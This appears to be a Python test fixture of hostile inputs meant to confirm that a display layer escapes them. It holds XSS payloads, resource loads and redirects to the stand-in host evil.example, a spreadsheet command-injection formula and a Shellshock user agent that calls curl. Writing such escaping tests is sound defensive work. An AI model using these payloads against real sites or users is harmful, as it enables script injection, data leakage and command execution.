"""Messages, texts, addresses and user agents that an attacker, or a careless sender, would send. Shown, they must be nothing but text."""

from __future__ import annotations

MESSAGES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#09;ScRiPt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name=a><button>go</button></form>',
    '<svg onload=alert(1)><a xlink:href="https://evil.example">x</a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<div style="background:url(https://evil.example/a.png)">x</div>',
    '<div style="background-image:u\\72l(https://evil.example)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<style>@import "https://evil.example/a.css"; *{display:none}</style>',
    '<link rel=stylesheet href="https://evil.example/a.css"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<body background="https://evil.example/a.png" onload="alert(1)">x</body>',
    '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
    '<img srcset="https://evil.example/a.png 1x" alt="a">',
    '<video poster="https://evil.example/a.png"><source src="https://evil.example/a.mp4"></video>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<b class="sillage-badge heat5">99 %</b>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<plaintext>everything after",
    "<div" * 2000,
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\udc80 lone surrogate".encode("utf-8", "replace").decode(),
]  # fmt: skip
TEXTS = [
    "<script>alert('label')</script>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "{{ 7 * 7 }}{% raw %}",
    "\u202egnp.exe\u2066\u200f",
    "a\u0301\u0301\u0301\u0301 \ufffd \ufeff\u200b",
    "</textarea></select></title><iframe src=https://evil.example></iframe>",
    "=cmd|' /C calc'!A0",
    "x" * 400,
]
URLS = [
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)//https://a.example",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/p.png",
    'https://a.example/"onfocus="alert(1)"autofocus="',
    "https://a.example/?q=</script><script>alert(1)</script>",
    "https://a.example/%00%ff%fe/\u202egpj",
    "vbscript:msgbox(1)",
    "https://a.example/" + "y" * 1500,
]
AGENTS = [
    "<img src=https://evil.example/agent.png>",
    "Mozilla/5.0 \u202e(Windows NT 10.0) Chrome/140.0 <svg onload=alert(1)>",
    "() { :;}; curl https://evil.example",
]
